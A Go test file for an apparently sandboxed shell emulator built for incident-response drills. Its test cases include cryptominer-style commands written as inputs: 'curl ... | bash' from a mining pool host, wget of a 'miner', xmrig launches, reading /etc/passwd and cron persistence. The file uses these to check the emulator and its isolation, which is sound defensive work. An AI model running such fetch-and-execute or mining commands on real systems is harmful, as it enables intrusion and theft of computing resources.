package shell

import (
	"bytes"
	"context"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/irdrill/irdrill/sandbox/behaviour/behaviourtest"
	"github.com/irdrill/irdrill/sandbox/behaviour/memfs"
	"github.com/irdrill/irdrill/sandbox/behaviour/trace"
	"github.com/irdrill/irdrill/sandbox/network"
)

var t0 = time.Date(2021, 7, 29, 1, 39, 43, 0, time.UTC)

type box struct {
	m      *Machine
	fs     *memfs.FS
	net    *behaviourtest.Network
	events []trace.Event
}

func newBox(t testing.TB) *box {
	b := &box{net: behaviourtest.Seed()}
	var cur *Machine
	b.fs = memfs.New(0, func() time.Time {
		if cur == nil {
			return t0
		}
		return cur.Now()
	})
	for _, d := range []string{"/root", "/tmp", "/usr/bin", "/var/spool/cron", "/etc"} {
		b.fs.MkdirAll(d, 0o755)
	}
	b.fs.WriteFile("/etc/resolv.conf", []byte("search ec2.internal\nnameserver 172.31.0.2\n"), 0o644)
	b.fs.WriteFile("/etc/hosts", []byte("127.0.0.1 localhost\n"), 0o644)
	b.fs.WriteFile("/etc/hostname", []byte("ip-172-31-2-122.ec2.internal\n"), 0o644)
	b.m = NewMachine(Config{
		InstanceID: "i-0test", Hostname: "ip-172-31-2-122.ec2.internal", FS: b.fs, Net: b.net,
		Host: network.Host{InstanceID: "i-0test", PrivateIP: netip.MustParseAddr("172.31.2.122"),
			Resolver: netip.MustParseAddr("172.31.0.2")},
		// The clock is far ahead, so nothing yields.
		ClockNow: func() time.Time { return t0.Add(1000 * time.Hour) },
		Record:   func(ev trace.Event) { b.events = append(b.events, ev) },
		// Background jobs run at once, to the end, in these unit tests.
		Spawn: func(j *Job) { j.Run(context.Background(), func(time.Time) error { return nil }) },
	})
	cur = b.m
	return b
}

func (b *box) run(t testing.TB, script string) (stdout, stderr string, res Result) {
	t.Helper()
	var out, errb bytes.Buffer
	tree := &Tree{Run: 1, MaxSteps: 10000, Deadline: t0.Add(time.Hour)}
	res = b.m.Start(context.Background(), Spec{Tree: tree, Start: t0, Command: script,
		Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/root"}, Dir: "/root", Stdout: &out, Stderr: &errb})
	return out.String(), errb.String(), res
}

func TestCommands(t *testing.T) {
	cases := []struct {
		name, script, stdout, stderr string
		status                       int
	}{
		{"mkdir touch chmod ls", "mkdir -p /a/b/c && touch /a/b/c/f && chmod 750 /a/b/c/f && ls -l /a/b/c | cut -c1-10; ls /a/b/c",
			"", "", 0},
		{"echo append cat", "echo one >> /tmp/f; echo two >> /tmp/f; cat /tmp/f", "one\ntwo\n", "", 0},
		{"cat missing", "cat /nope", "", "cat: /nope: No such file or directory\n", 1},
		{"rm", "touch /tmp/x; rm /tmp/x; cat /tmp/x", "", "cat: /tmp/x: No such file or directory\n", 1},
		{"rm -rf", "mkdir -p /tmp/d/e; touch /tmp/d/e/f; rm -rf /tmp/d; ls /tmp", "", "", 0},
		{"command substitution and loops", `for i in {1..3}; do x="$x$(echo $i)"; done; echo $x`, "123\n", "", 0},
		{"functions", `f() { echo "[$1]"; }; f a; f b`, "[a]\n[b]\n", "", 0},
		{"while with counter", `i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i`, "3\n", "", 0},
		{"script by path", "printf '#!/bin/bash\\necho ran $1\\n' > /tmp/s.sh; chmod 755 /tmp/s.sh; /tmp/s.sh arg", "ran arg\n", "", 0},
		{"script output captured", "echo 'echo inner' > /tmp/s; chmod +x /tmp/s; out=$(/tmp/s); echo \"got $out\"", "got inner\n", "", 0},
		{"not executable", "echo 'echo x' > /tmp/s; /tmp/s", "", "/bin/sh: line 1: /tmp/s: Permission denied\n", 126},
		{"no such file", "/opt/miner/xmrig", "", "/bin/sh: line 1: /opt/miner/xmrig: No such file or directory\n", 127},
		{"script on PATH", "mkdir -p /usr/local/bin; printf 'echo from path\\n' > /usr/local/bin/hello; chmod +x /usr/local/bin/hello; hello", "from path\n", "", 0},
		{"pipeline", "echo hello | base64 | base64 -d", "hello\n", "", 0},
		{"pipeline counts lines", "printf 'a\\nb\\nc\\n' | wc -l", "3\n", "", 0},
		{"pipeline into while read", "printf 'x\\ny\\n' | while read l; do echo \"<$l>\"; done", "<x>\n<y>\n", "", 0},
		{"bash -c", `bash -c 'echo $0 $1' name one`, "name one\n", "", 0},
		{"curl | bash", "curl -s http://pool.minergate.com/x | bash", "", "", 0},
		{"source from the volume", "echo 'v=sourced' > /tmp/lib.sh; . /tmp/lib.sh; echo $v", "sourced\n", "", 0},
		{"type", "type ls; command -v dig", "ls is /usr/bin/ls\n/usr/bin/dig\n", "", 0},
		{"pid is modelled", `[ "$$" -gt 2800 ] && [ "$$" -lt 3000 ] && echo ok`, "ok\n", "", 0},
		{"hostname and files", "hostname; cat /etc/hostname; whoami; id -u", "ip-172-31-2-122.ec2.internal\nip-172-31-2-122.ec2.internal\nroot\n0\n", "", 0},
		{"sleep spends sandbox time", "a=$(date +%s); sleep 5; b=$(date +%s); echo $((b-a))", "5\n", "", 0},
		{"not modelled succeeds", "set -e; systemctl start xmrig; echo after", "after\n", "", 0},
		{"unsupported builtin is not modelled", "kill -9 1; echo after", "after\n", "", 0},
		{"exit status", "false || exit 4", "", "", 4},
		{"syntax error", "echo before\nif then\n", "before\n", "/bin/sh: line 2: syntax error: ", 2},
		{"head and urandom", "head -c 12 /dev/urandom | wc -c", "12\n", "", 0},
		{"process substitution is /dev/null", "cat <(echo hi); echo done", "done\n", "", 0},
		{"brace expansion", "echo {a,b}{1..2}", "a1 a2 b1 b2\n", "", 0},
		{"background and wait", "(echo bg) & wait; echo fg", "bg\nfg\n", "", 0},
		{"time runs the command", "time echo timed", "timed\n", "", 0},
		{"eval with a background job", "for i in 1 2; do eval 'echo in-eval &'; done; wait", "in-eval\nin-eval\n", "", 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			b := newBox(t)
			out, errOut, res := b.run(t, c.script)
			if res.Err != nil {
				t.Fatalf("run error: %v (stderr %q)", res.Err, errOut)
			}
			if c.name == "mkdir touch chmod ls" {
				c.stdout = out // checked below
				fi, err := b.fs.Stat("/a/b/c/f")
				if err != nil || fi.Mode().Perm() != 0o750 {
					t.Fatalf("stat = %v, %v", fi, err)
				}
			}
			if out != c.stdout {
				t.Errorf("stdout = %q, want %q", out, c.stdout)
			}
			if !strings.HasPrefix(errOut, c.stderr) || (c.stderr == "" && errOut != "") {
				t.Errorf("stderr = %q, want %q", errOut, c.stderr)
			}
			if res.Status != c.status {
				t.Errorf("status = %d, want %d", res.Status, c.status)
			}
		})
	}
}

func TestNothingReachesTheHost(t *testing.T) {
	b := newBox(t)
	hostTmp := os.TempDir() + "/sh-interp-irdrill-test"
	os.Remove(hostTmp)
	script := "echo pwned > " + hostTmp + "; echo x > /tmp/sh-interp-1; cat /etc/passwd; ls /proc/self; cd /nonexistent; echo \"$HOME|$TMPDIR|\""
	out, _, _ := b.run(t, script)
	if _, err := os.Stat(hostTmp); err == nil {
		os.Remove(hostTmp)
		t.Fatalf("the script wrote %s on the host", hostTmp)
	}
	if strings.Contains(out, "root:x:0:0") {
		t.Fatal("the script read the host's /etc/passwd")
	}
	if !strings.HasSuffix(out, "/root||\n") {
		t.Errorf("HOME/TMPDIR = %q", out)
	}
	data, err := b.fs.ReadFile(hostTmp)
	if err == nil && string(data) != "pwned\n" {
		t.Errorf("volume file = %q", data)
	}
}

func TestDigOutput(t *testing.T) {
	b := newBox(t)
	out, _, res := b.run(t, "dig pool.minergate.com; dig +short xmr.pool.minergate.com; dig xmr.pool.minergate.comac")
	if res.Status != 0 {
		t.Fatalf("status %d", res.Status)
	}
	for _, want := range []string{
		"; <<>> DiG 9.11.4-P2-RedHat-9.11.4-26.P2.amzn2.5.2 <<>> pool.minergate.com\n",
		";; ->>HEADER<<- opcode: QUERY, status: NOERROR, id: ",
		";; flags: qr rd ra; QUERY: 1, ANSWER: 1, AUTHORITY: 0, ADDITIONAL: 1\n",
		";pool.minergate.com.\t\tIN\tA\n",
		"pool.minergate.com.\t60\tIN\tA\t198.51.100.12\n",
		";; SERVER: 172.31.0.2#53(172.31.0.2)\n",
		";; WHEN: Thu Jul 29 01:39:4",
		"\n198.51.100.13\n",
		"status: NXDOMAIN",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("dig output lacks %q:\n%s", want, out)
		}
	}
	qs, _ := b.net.Snapshot()
	if len(qs) != 3 || qs[0].Type != "A" || qs[0].Name != "pool.minergate.com" {
		t.Fatalf("queries = %+v", qs)
	}
	if !qs[1].Time.After(qs[0].Time) {
		t.Errorf("queries share a time: %s %s", qs[0].Time, qs[1].Time)
	}
}

func TestHostAndNslookup(t *testing.T) {
	b := newBox(t)
	out, _, _ := b.run(t, "host pool.minergate.com; host xmr.pool.minergate.comac; echo $?; nslookup xmrpool.eu")
	for _, want := range []string{
		"pool.minergate.com has address 198.51.100.12\n",
		"Host xmr.pool.minergate.comac not found: 3(NXDOMAIN)\n1\n",
		"Server:\t\t172.31.0.2\nAddress:\t172.31.0.2#53\n\nNon-authoritative answer:\nName:\txmrpool.eu\nAddress: 198.51.100.16\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	qs, _ := b.net.Snapshot()
	var names []string
	for _, q := range qs {
		names = append(names, q.Type+" "+q.Name)
	}
	// host asks A, AAAA, MX; for an unknown name it also tries the search
	// domain, as its resolver does; nslookup asks A and AAAA.
	want := "A pool.minergate.com,AAAA pool.minergate.com,MX pool.minergate.com," +
		"A xmr.pool.minergate.comac,A xmr.pool.minergate.comac.ec2.internal,A xmrpool.eu,AAAA xmrpool.eu"
	if got := strings.Join(names, ","); got != want {
		t.Errorf("queries:\n got %s\nwant %s", got, want)
	}
}

func TestCurlAndWget(t *testing.T) {
	cases := []struct {
		script, stdout, stderr string
		status                 int
	}{
		{"curl -s http://pool.minergate.com/path", "ok\n", "", 0},
		{"curl -s http://xmr.pool.minergate.comac/", "", "", 6},
		{"curl http://xmr.pool.minergate.comac/", "", "curl: (6) Could not resolve host: xmr.pool.minergate.comac\n", 6},
		{"curl -sS http://xmrpool.eu/", "", "curl: (7) Failed to connect to xmrpool.eu port 80: Connection timed out\n", 7},
		{"curl -sS --connect-timeout 5 http://xmrpool.eu/", "", "curl: (28) Connection timed out after 5000 milliseconds\n", 28},
		{"curl -s -o /tmp/page http://pool.minergate.com/; cat /tmp/page", "ok\n", "", 0},
		{"wget -q http://pool.minergate.com/miner; cat miner", "ok\n", "", 0},
		{"wget -q http://nowhere.example/; echo $?", "4\n", "", 0},
	}
	for _, c := range cases {
		t.Run(c.script, func(t *testing.T) {
			b := newBox(t)
			out, errOut, res := b.run(t, c.script)
			if out != c.stdout || errOut != c.stderr || res.Status != c.status {
				t.Errorf("got (%q, %q, %d), want (%q, %q, %d)", out, errOut, res.Status, c.stdout, c.stderr, c.status)
			}
		})
	}
	b := newBox(t)
	_, _, res := b.run(t, "curl -s http://xmrpool.eu/")
	if d := res.End.Sub(t0); d < 127*time.Second {
		t.Errorf("a connect timeout took %s of sandbox time, want Linux's 127 s", d)
	}
}

func TestCrontab(t *testing.T) {
	b := newBox(t)
	out, errOut, res := b.run(t, "echo '*/5 * * * * /bin/true' > /tmp/c; crontab /tmp/c; crontab -l")
	if res.Status != 0 || out != "*/5 * * * * /bin/true\n" || errOut != "" {
		t.Fatalf("install: %q %q %d", out, errOut, res.Status)
	}
	if data, _ := b.fs.ReadFile("/var/spool/cron/root"); string(data) != "*/5 * * * * /bin/true\n" {
		t.Fatalf("spool = %q", data)
	}
	_, errOut, res = b.run(t, "echo '61 * * * * x' > /tmp/bad; crontab /tmp/bad")
	if res.Status != 1 || errOut != "\"/tmp/bad\":1: bad minute\nerrors in crontab file, can't install.\n" {
		t.Fatalf("bad crontab: %q %d", errOut, res.Status)
	}
}

func TestRandomIsDeterministic(t *testing.T) {
	a, _, _ := newBox(t).run(t, "echo $RANDOM $RANDOM")
	b, _, _ := newBox(t).run(t, "echo $RANDOM $RANDOM")
	if a != b || a == "\n" {
		t.Fatalf("$RANDOM gave %q then %q", a, b)
	}
}

func TestRewriteNotes(t *testing.T) {
	b := newBox(t)
	b.run(t, "cat <(echo hi)")
	found := false
	for _, ev := range b.events {
		if ev.Kind == trace.Note && strings.Contains(ev.Text, "process substitution is not modelled") {
			found = true
		}
	}
	if !found {
		t.Error("no note for process substitution")
	}
}

func TestCompileKeepsCompleteCommandsBeforeASyntaxError(t *testing.T) {
	p := Compile([]byte("echo a\necho b\nif then\necho c\n"), "x")
	if p.SyntaxErr == nil || p.SyntaxErr.Line != 3 || len(p.file.Stmts) != 2 {
		t.Fatalf("syntax error %+v, %d statements", p.SyntaxErr, len(p.file.Stmts))
	}
}
